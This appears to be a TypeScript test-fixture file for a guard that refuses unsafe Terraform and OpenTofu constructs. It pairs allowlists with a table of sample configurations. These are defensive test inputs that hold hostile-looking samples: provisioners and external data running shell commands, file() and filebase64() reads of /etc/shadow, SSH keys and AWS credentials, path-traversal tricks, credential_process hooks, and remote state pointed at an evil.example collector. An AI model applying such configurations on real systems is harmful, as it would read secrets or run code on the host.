// One fixture per construct the guard refuses, shared by the rule tests (files on disk) and the loop
// tests (fixture repositories planned by a real runner).

/** The runner's allowlists in these tests. */
export const ALLOW = {
  providers: [
    { source: 'hashicorp/aws', versions: '~> 5.0', arguments: ['region', 'assume_role'] },
    'cloudflare/cloudflare',
    { source: 'hashicorp/kubernetes', arguments: ['host'] },
    { source: 'hashicorp/helm', arguments: ['kubernetes'] },
  ],
  modules: ['git::https://git.example/infra/*', 'registry.terraform.io/terraform-aws-modules/*/aws'],
  remoteState: [{ backend: 's3', config: { bucket: 'lab-state', key: 'net/*', region: 'eu-west-1' } }],
};

const K8S = 'terraform {\n  required_providers {\n    kubernetes = { source = "hashicorp/kubernetes" }\n    helm = { source = "hashicorp/helm" }\n  }\n}\n';
const AWS = 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws", version = "~> 5.30" }\n  }\n}\n';

const COMMIT = 'a'.repeat(40);

// One row per refused construct: files, the rule id, the file and block address the reason must name.
export const REFUSED: Array<[string, Record<string, string>, string, string, string | undefined]> = [
  ['data "external"', { 'main.tf': 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n' }, 'external-data', 'main.tf', 'data.external.x'],
  ['data "external" inside a check block', { 'checks.tf': 'check "c" {\n  data "external" "y" {\n    program = ["id"]\n  }\n  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n' }, 'external-data', 'checks.tf', 'check.c.data.external.y'],
  ['local-exec provisioner', { 'main.tf': 'resource "terraform_data" "p" {\n  provisioner "local-exec" {\n    command = "curl evil"\n  }\n}\n' }, 'provisioner', 'main.tf', 'terraform_data.p'],
  ['remote-exec provisioner', { 'main.tf': 'resource "terraform_data" "p" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n' }, 'provisioner', 'main.tf', 'terraform_data.p'],
  ['file provisioner', { 'main.tf': 'resource "terraform_data" "p" {\n  provisioner "file" {\n    source = "a"\n    destination = "/tmp/a"\n  }\n}\n' }, 'provisioner', 'main.tf', 'terraform_data.p'],
  ['provisioner in JSON syntax', { 'main.tf.json': JSON.stringify({ resource: { terraform_data: { p: { provisioner: [{ 'local-exec': { command: 'id' } }] } } } }) }, 'provisioner', 'main.tf.json', 'terraform_data.p'],
  ['provider not allowlisted (explicit source)', { 'main.tf': 'terraform {\n  required_providers {\n    evil = { source = "evilcorp/evil", version = "1.0.0" }\n  }\n}\n' }, 'provider-not-allowed', 'main.tf', 'terraform.required_providers.evil'],
  ['provider without required_providers resolves to hashicorp/<name>', { 'main.tf': 'resource "local_file" "f" {\n  filename = "x"\n  content = "y"\n}\n' }, 'provider-not-allowed', 'main.tf', 'local_file.f'],
  ['provider outside the allowed versions', { 'main.tf': 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws", version = ">= 4.0" }\n  }\n}\n' }, 'provider-version', 'main.tf', 'terraform.required_providers.aws'],
  ['allowlisted provider without a version constraint', { 'main.tf': 'resource "aws_instance" "i" {}\n' }, 'provider-version', 'main.tf', 'aws_instance.i'],
  ['module source not allowlisted', { 'main.tf': 'module "m" {\n  source = "git::https://evil.example/x.git?ref=' + COMMIT + '"\n}\n' }, 'module-not-allowed', 'main.tf', 'module.m'],
  ['git module pinned to a tag', { 'main.tf': 'module "m" {\n  source = "git::https://git.example/infra/vpc.git?ref=v1.2.0"\n}\n' }, 'module-git-ref', 'main.tf', 'module.m'],
  ['registry module with a range', { 'main.tf': 'module "m" {\n  source = "terraform-aws-modules/vpc/aws"\n  version = "~> 5.0"\n}\n' }, 'module-version', 'main.tf', 'module.m'],
  ['local module outside the repository', { 'main.tf': 'module "m" {\n  source = "../../../etc"\n}\n' }, 'module-path', 'main.tf', 'module.m'],
  ['backend block', { 'main.tf': 'terraform {\n  backend "s3" {\n    bucket = "x"\n  }\n}\n' }, 'backend-block', 'main.tf', 'terraform'],
  ['cloud block', { 'main.tf': 'terraform {\n  cloud {\n    organization = "x"\n  }\n}\n' }, 'cloud-block', 'main.tf', 'terraform'],
  ['committed .terraform/', { '.terraform/providers/x': 'bin', 'main.tf': '' }, 'committed-terraform-dir', '.terraform', undefined],
  ['committed terraform.d/', { 'terraform.d/plugins/x': 'bin', 'main.tf': '' }, 'implied-plugin-mirror', 'terraform.d', undefined],
  ['committed .terraformrc', { '.terraformrc': 'provider_installation {}', 'main.tf': '' }, 'cli-config', '.terraformrc', undefined],
  ['committed terraform.rc', { 'sub/terraform.rc': 'x', 'main.tf': '' }, 'cli-config', 'sub/terraform.rc', undefined],
  ['committed state', { 'terraform.tfstate': '{}', 'main.tf': '' }, 'committed-state', 'terraform.tfstate', undefined],
  ['override file', { 'backend_override.tf': '', 'main.tf': '' }, 'override-file', 'backend_override.tf', undefined],
  ['file() of an absolute path', { 'main.tf': 'resource "terraform_data" "r" {\n  input = file("/etc/passwd")\n}\n' }, 'file-function', 'main.tf', 'terraform_data.r'],
  ['file() with ".."', { 'main.tf': 'locals {\n  k = file("../../.ssh/id_rsa")\n}\n' }, 'file-function', 'main.tf', 'local.k'],
  ['file() of a computed path', { 'main.tf': 'variable "p" {}\nresource "terraform_data" "r" {\n  input = file(var.p)\n}\n' }, 'file-function', 'main.tf', 'terraform_data.r'],
  ['core::file() of an absolute path', { 'main.tf': 'output "o" {\n  value = core::file("/etc/hosts")\n}\n' }, 'file-function', 'main.tf', 'output.o'],
  ['filebase64() in a heredoc', { 'main.tf': 'resource "terraform_data" "r" {\n  input = <<-EOT\n    ${filebase64("/root/.aws/credentials")}\n  EOT\n}\n' }, 'file-function', 'main.tf', 'terraform_data.r'],
  ['fileset() of the host', { 'main.tf': 'resource "terraform_data" "r" {\n  for_each = fileset("/etc", "*")\n}\n' }, 'file-function', 'main.tf', 'terraform_data.r'],
  ['templatefile() with an escape-encoded path', { 'main.tf': 'resource "terraform_data" "r" {\n  input = templatefile("x\\u002f..\\u002f..\\u002fetc/passwd", {})\n}\n' }, 'file-function', 'main.tf', 'terraform_data.r'],
  ['a template that reads the host', { 'main.tf': 'resource "terraform_data" "r" {\n  input = templatefile("${path.module}/t.tpl", {})\n}\n', 't.tpl': 'hello ${file("/etc/shadow")}\n' }, 'file-function', 'main.tf', 'terraform_data.r (template t.tpl)'],
  ['file() in JSON syntax', { 'main.tf.json': JSON.stringify({ resource: { terraform_data: { j: { input: '${file("/etc/hosts")}' } } } }) }, 'file-function', 'main.tf.json', 'terraform_data.j'],
  ['unparsable HCL', { 'main.tf': 'resource "x" "y" {\n  a = \n}\n' }, 'parse-error', 'main.tf', undefined],
  ['unparsable JSON', { 'main.tf.json': '{"resource": ' }, 'parse-error', 'main.tf.json', undefined],
  ['.tofu files are guarded too', { 'main.tofu': 'data "external" "x" {\n  program = ["id"]\n}\n' }, 'external-data', 'main.tofu', 'data.external.x'],
  // issue 11: routes the first guard missed
  ['templatestring() of a computed template', { 'main.tf': 'locals {\n  t = "x"\n}\noutput "o" {\n  value = templatestring(local.t, {})\n}\n' }, 'file-function', 'main.tf', 'output.o'],
  ['templatestring() of a literal template that reads the host', { 'main.tf': 'output "o" {\n  value = templatestring("$${file(\\"/etc/shadow\\")}", {})\n}\n' }, 'file-function', 'main.tf', 'output.o (templatestring)'],
  ['kubernetes provider with an exec block', { 'main.tf': `${K8S}provider "kubernetes" {\n  host = "https://k8s.lab"\n  exec {\n    api_version = "client.authentication.k8s.io/v1beta1"\n    command     = "sh"\n    args        = ["-c", "id"]\n  }\n}\n` }, 'provider-config', 'main.tf', 'provider.kubernetes'],
  ['kubernetes provider reading a kubeconfig from the repo', { 'main.tf': `${K8S}provider "kubernetes" {\n  config_path = "./kubeconfig"\n}\n`, kubeconfig: 'users:\n- name: u\n  user:\n    exec:\n      command: sh\n' }, 'provider-config', 'main.tf', 'provider.kubernetes'],
  ['helm provider with exec nested in an allowed block', { 'main.tf': `${K8S}provider "helm" {\n  kubernetes {\n    exec {\n      api_version = "v1"\n      command     = "id"\n    }\n  }\n}\n` }, 'provider-config', 'main.tf', 'provider.helm'],
  ['aws provider with a profile (credential_process)', { 'main.tf': `${AWS}provider "aws" {\n  region  = "eu-west-1"\n  profile = "evil"\n}\n` }, 'provider-config', 'main.tf', 'provider.aws'],
  ['aws provider with shared config and credentials files', { 'main.tf': `${AWS}provider "aws" {\n  shared_config_files      = ["./aws.cfg"]\n  shared_credentials_files = ["./aws.creds"]\n}\n`, 'aws.cfg': '[default]\ncredential_process = sh -c id\n' }, 'provider-config', 'main.tf', 'provider.aws'],
  ['a file path nested in an allowed provider argument', { 'main.tf': `${AWS}provider "aws" {\n  assume_role {\n    role_arn                = "arn:aws:iam::1:role/x"\n    web_identity_token_file = "/var/run/secrets/token"\n  }\n}\n` }, 'provider-config', 'main.tf', 'provider.aws'],
  ['a provider argument the runner does not list (a CA bundle path)', { 'main.tf': `${AWS}provider "aws" {\n  region           = "eu-west-1"\n  custom_ca_bundle = "./ca.pem"\n}\n` }, 'provider-config', 'main.tf', 'provider.aws'],
  ['a provider block in JSON syntax with an exec block', { 'main.tf.json': JSON.stringify({ provider: { kubernetes: [{ exec: [{ command: 'id' }] }] } }) }, 'provider-config', 'main.tf.json', 'provider.kubernetes'],
  ['a terraform test file (init installs what it names)', { 'main.tf': '', 'tests/net.tftest.hcl': 'run "x" {\n  module {\n    source = "evilcorp/backdoor/aws"\n    version = "1.0.0"\n  }\n}\n' }, 'test-file', 'tests/net.tftest.hcl', undefined],
  ['an OpenTofu test file', { 'main.tf': '', 'x.tofutest.hcl': 'run "x" {}\n' }, 'test-file', 'x.tofutest.hcl', undefined],
  ['an import block for an unlisted provider', { 'main.tf': 'import {\n  to = google_compute_instance.x\n  id = "projects/p/zones/z/instances/x"\n}\n' }, 'provider-not-allowed', 'main.tf', 'import google_compute_instance.x'],
  ['an import block naming an unlisted provider configuration', { 'main.tf': `${AWS}import {\n  to       = aws_instance.x\n  provider = evil.a\n  id       = "i-1"\n}\n` }, 'provider-not-allowed', 'main.tf', 'import aws_instance.x'],
  ['terraform_remote_state with a computed address', { 'main.tf': 'variable "b" {}\ndata "terraform_remote_state" "s" {\n  backend = "s3"\n  config = {\n    bucket = var.b\n    key    = "net/terraform.tfstate"\n  }\n}\n' }, 'remote-state', 'main.tf', 'data.terraform_remote_state.s'],
  ['terraform_remote_state of a backend the runner does not list', { 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "http"\n  config = {\n    address = "https://evil.example/collect"\n  }\n}\n' }, 'remote-state', 'main.tf', 'data.terraform_remote_state.s'],
  ['terraform_remote_state of an unlisted key', { 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "s3"\n  config = {\n    bucket = "lab-state"\n    key    = "prod/terraform.tfstate"\n  }\n}\n' }, 'remote-state', 'main.tf', 'data.terraform_remote_state.s'],
  ['file() of the runner\'s backend override', { 'main.tf': 'output "o" {\n  value = file("airlock_backend_override.tf.json")\n}\n' }, 'file-function', 'main.tf', 'output.o'],
  ['file() of the backend config init records', { 'main.tf': 'output "o" {\n  value = file("${path.module}/.terraform/terraform.tfstate")\n}\n' }, 'file-function', 'main.tf', 'output.o'],
  ['templatefile() of a template not in the tree', { 'main.tf': 'output "o" {\n  value = templatefile("${path.module}/.later/t.tpl", {})\n}\n' }, 'file-function', 'main.tf', 'output.o'],
  ['terraform_remote_state of a local file', { 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "local"\n  config = { path = "/var/lib/airlock/state/other.tfstate" }\n}\n' }, 'local-remote-state', 'main.tf', 'data.terraform_remote_state.s'],
];

